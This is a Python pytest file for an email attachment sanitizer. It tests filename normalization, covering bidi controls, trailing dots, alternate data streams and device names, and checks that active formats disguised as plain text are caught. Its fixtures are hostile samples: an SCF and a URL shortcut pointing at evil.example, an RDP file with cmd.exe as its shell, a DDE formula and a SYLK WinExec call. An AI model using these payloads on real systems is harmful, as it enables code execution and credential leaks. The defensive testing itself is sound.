"""File names that lie and text that is not text (issue 11, class 1): the delivered name comes
from what was rebuilt, and an active format written as text is never kept as text."""

from __future__ import annotations

import io
import itertools
import zipfile
from email.message import Message
from email.utils import collapse_rfc2231_value
from urllib.parse import quote

import pikepdf
import pytest
from PIL import Image

from sanitizers.cdr.registry import InProcessDisarmer
from sanitizers.filenames import clean_component, delivered_name
from sanitizers.filetype import detect
from sanitizers.pipeline import sanitize_message
from sanitizers.policy import Policy
from sanitizers.report import SanitizeResult
from sanitizers.vocabulary import Action, Reason
from tests.adversarial.invariants import assert_safe
from tests.mailfactory import leaf, mail, multipart, parse

POLICY = Policy()

# Ways to make Windows (or a reader) see another name than the one written: what is added
# after the extension, or inserted inside the name.
TRAILING = [".", " ", ". . .", " .", "..", "\u3000", "\uff0e", "\u3002", "::$DATA", ":x.exe"]
INVISIBLE = ["\u202e", "\u200b", "\u2066", "\u061c", "\ufeff", "\u2028", "\x7f", "\u200e"]


def lying_names(extension: str) -> list[str]:
    """Names that claim ``extension`` while a naive reading says none or another."""
    names = [f"invoice.{extension}{tail}" for tail in TRAILING]
    names += [f".{extension}", f".{extension}.", f"請求書.{extension}"]
    names += [f"inv{mark}oice.{extension}" for mark in INVISIBLE]
    return names


@pytest.mark.parametrize("name", lying_names("doc"))
def test_clean_component_strips_what_windows_or_a_reader_ignores(name: str) -> None:
    cleaned = clean_component(name)
    assert cleaned.endswith(".doc") or cleaned == "doc"  # a leading dot goes too
    assert not any(mark in cleaned for mark in INVISIBLE)
    assert ":" not in cleaned


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("請求書.html", "image/png", "請求書.png"),
        ("請求書.html", "application/pdf", "請求書.pdf"),
        ("写真.JPEG", "image/jpeg", "写真.JPEG"),
        ("a.png.", "image/png", "a.png"),
        ("invoice.doc.", "text/plain", "invoice.txt"),
        ("a.doc. . .", "text/plain", "a.txt"),
        (".doc", "text/plain", "doc.txt"),
        (". . .", "text/plain", "attachment.txt"),
        ("x.hta ", "text/plain", "x.txt"),
        ("data.csv::$DATA", "text/csv", "data.csv"),
        ("a.pdf:evil.exe", "application/pdf", "a.pdf"),
        ("CON.txt", "text/plain", "_CON.txt"),
        ("nul", "text/plain", "_nul.txt"),
        ("archive.zip.html", "application/zip", "archive.zip.zip"),
        (None, "application/pdf", "attachment.pdf"),
        ("..\\..\\win.ini", "text/plain", "win.txt"),
        (
            "x.docm",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "x.docx",
        ),
        ("x.xls", "application/cdfv2", "x.xls"),
        ("x.html", "application/cdfv2", "x.bin"),
        ("x.exe", "application/x-dosexec", "x.bin"),
    ],
)
def test_delivered_name_carries_the_rebuilt_types_extension(
    name: str | None, content_type: str, expected: str
) -> None:
    assert delivered_name(name, content_type) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [("報告.docx", "報告.docx"), ("報告.html", "報告.bin"), ("x.zip", "x.bin")],
)
def test_a_kept_file_libmagic_misnames_is_named_by_its_kind(name: str, expected: str) -> None:
    """libmagic calls some .docx files application/zip: kept as they came (keep_if_clean),
    they keep an extension of their kind (ooxml), never the ZIP's or the sender's other one."""
    assert delivered_name(name, "application/zip", "ooxml") == expected


def test_delivered_names_are_bounded() -> None:
    name = delivered_name("あ" * 500 + ".html", "image/png")
    assert len(name) == 100
    assert name.endswith(".png")


# --- active formats written as text -----------------------------------------------------------

ACTIVE_TEXT = {
    "rtf-short-header": b"{\\rt{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000}}}",
    "rtf-leading-space": b"  {\\rtf1{\\object\\objemb{\\*\\objclass Package}}}",
    "svg-with-script": b'<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>",
    "svg-prefixed": b'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "hta": b'<hta:application id="x"/><script language="VBScript">CreateObject("x")</script>',
    "rdp": b"screen mode id:i:2\r\nfull address:s:evil.example\r\nalternate shell:s:cmd.exe\r\n",
    "iqy": b"WEB\r\n1\r\nhttp://evil.example/q.html\r\n",
    "dqy": b"XLODBC\r\n1\r\nDSN=x;\r\nSELECT 1\r\n",
    "url-shortcut": b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n",
    "scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\i.ico\r\n",
    "registry": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n",
    "scriptlet": b'<?XML version="1.0"?><scriptlet><registration progid="x"/></scriptlet>',
    "settingcontent": b"<?xml version='1.0'?><PCSettings><SearchableContent/></PCSettings>",
    "spreadsheetml-dde": b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row>'
    b"<Cell ss:Formula=\"=cmd|' /C calc'!A0\"/></Row></Table></Worksheet></Workbook>",
    "wordml": b'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/'
    b'office/word/2003/wordml"><w:body/></w:wordDocument>',
    "sylk": b'ID;PWXL;N;E\r\nC;Y1;X1;K0;ECALL("Kernel32","WinExec","JCJ","calc",0)\r\nE\r\n',
}


def _utf16(data: bytes) -> bytes:
    return b"\xff\xfe" + data.decode("latin-1").encode("utf-16-le")


# Each active format as bytes, and the formats that are XML/markup also in UTF-16.
ACTIVE_VARIANTS = {name: data for name, data in ACTIVE_TEXT.items()} | {
    f"{name}-utf16": _utf16(data)
    for name, data in ACTIVE_TEXT.items()
    if name.startswith(("svg", "hta", "spreadsheetml", "wordml", "url", "registry"))
}
NAMES = ["x.txt", "x.csv", "invoice.doc.", ".doc", "x.hta ", "x.xml", "x.rdp.", "x.iqy", ""]


@pytest.mark.parametrize(("case", "name"), list(itertools.product(sorted(ACTIVE_VARIANTS), NAMES)))
def test_active_text_is_never_of_kind_text(case: str, name: str) -> None:
    info = detect(ACTIVE_VARIANTS[case], "text/plain", name or None)
    assert info.kind not in ("text", "html"), (case, name, info)


def attach(data: bytes, filename: str, content_type: str = "application/octet-stream") -> bytes:
    disposition = f"attachment; filename*=utf-8''{quote(filename)}"
    part = leaf(content_type, data, cte="base64", extra=[("Content-Disposition", disposition)])
    return mail(multipart("mixed", [leaf("text/plain; charset=utf-8", b"see attached"), part]))


def run(raw: bytes) -> SanitizeResult:
    return sanitize_message(raw, POLICY, disarmer=InProcessDisarmer())


@pytest.mark.parametrize("case", sorted(ACTIVE_TEXT))
@pytest.mark.parametrize("name", ["invoice.doc.", ".doc", "a.doc. . .", "x.txt"])
def test_active_text_under_any_name_does_not_cross(case: str, name: str) -> None:
    data = ACTIVE_TEXT[case]
    result = run(attach(data, name, "text/plain"))
    part = result.report.parts[-1]
    if case.startswith("svg"):  # SVG is disarmed (sanitizers.cdr.svg): delivered as .svg
        assert (part.action, part.reason) == (Action.SANITIZED, Reason.ACTIVE_CONTENT), part
        assert part.attached_as.endswith(".svg")
    else:
        assert part.action is Action.REMOVED, part
    assert_safe(result, [data])


def _attachment_names(message: Message) -> list[str]:
    return [str(p.get_filename()) for p in message.walk() if p.get_filename()]


@pytest.mark.parametrize("name", lying_names("doc") + lying_names("rtf"))
def test_plain_text_under_a_lying_name_is_delivered_as_txt(name: str) -> None:
    result = run(attach("お知らせ\r\n".encode(), name, "application/msword"))
    if name.endswith(":x.exe"):  # one reading of the name is an executable: removed
        assert result.report.parts[-1].reason.value == "executable"
        return
    (delivered,) = _attachment_names(parse(result.message))
    assert delivered.endswith(".txt"), delivered
    assert result.report.parts[-1].attached_as == delivered


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (1, 2, 3)).save(out, "PNG")
    return out.getvalue()


def _pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "hello")
    return out.getvalue()


REBUILT = {"png": _png, "pdf": _pdf, "zip": _zip}
CLAIMS = ["請求書.html", "請求書.htm", "x.svg", "x.hta", "x.js.", "x.html ", "x.lnk::$DATA"]


@pytest.mark.parametrize(("kind", "name"), list(itertools.product(sorted(REBUILT), CLAIMS)))
def test_rebuilt_files_carry_their_types_extension(kind: str, name: str) -> None:
    result = run(attach(REBUILT[kind](), name))
    part = result.report.parts[-1]
    if part.action is Action.REMOVED:  # a name that claims an executable removes the file
        assert part.reason.value == "executable"
        return
    (delivered,) = _attachment_names(parse(result.message))
    assert delivered.endswith(f".{kind}"), delivered
    assert part.attached_as == delivered


def test_archive_entry_names_lose_bidi_controls_and_their_lies() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("報告\u202etxt.html", "<p>hi</p>")
        archive.writestr("フォルダ\u2066/メモ.txt. . .", "memo")
        archive.writestr("画像.html", _png())
    result = run(attach(out.getvalue(), "files.zip"))
    part = result.report.parts[-1]
    assert part.action is Action.SANITIZED
    (payload,) = [p for p in parse(result.message).walk() if p.get_filename()]
    data = payload.get_payload(decode=True)
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as rebuilt:
        names = sorted(rebuilt.namelist())
    assert names == ["フォルダ/メモ.txt", "报告txt.txt".replace("报", "報"), "画像.png"]
    assert all("\u202e" not in entry.name for entry in part.entries)


BENIGN_TEXT = {
    "html-with-inline-svg": (
        b"<html><body><svg viewBox='0 0 1 1'></svg><p>hi</p></body></html>",
        "html",
    ),
    "prose-about-rtf": (b"Word files start with {\\rtf1 and RDP files say full address.", "text"),
    "japanese-notice": ("会議は12月3日です。\r\n".encode(), "text"),
}


@pytest.mark.parametrize("case", sorted(BENIGN_TEXT))
def test_benign_text_keeps_its_kind(case: str) -> None:
    data, kind = BENIGN_TEXT[case]
    assert detect(data, "text/plain", "a.txt").kind == kind


# Spaces of the sender's text inside or at the start of a name: kept exactly as written (only
# safetext's unsafe classes and what Windows drops at the end may go).
SPACED_NAMES = [
    "議事録\u3000第1回.txt",
    "\u3000議事録.txt",
    "\u3000\u3000資料\u3000（案）.txt",
    "会議\u00a0資料.txt",
    "\u3000案内\u3000（第2版）.txt",
]


@pytest.mark.parametrize("name", SPACED_NAMES)
def test_spaces_in_a_name_are_kept_as_written(name: str) -> None:
    assert clean_component(name) == name
    assert delivered_name(name, "text/plain") == name


@pytest.mark.parametrize("name", SPACED_NAMES)
def test_spaces_in_a_name_survive_the_pipeline(name: str) -> None:
    result = run(attach("資料\r\n".encode(), name, "text/plain"))
    # Message.get_filename strips every Unicode space: read the parameter itself
    params = [
        p.get_param("filename", header="content-disposition") for p in parse(result.message).walk()
    ]
    assert [collapse_rfc2231_value(v) for v in params if v] == [name]
    assert result.report.parts[-1].attached_as == name
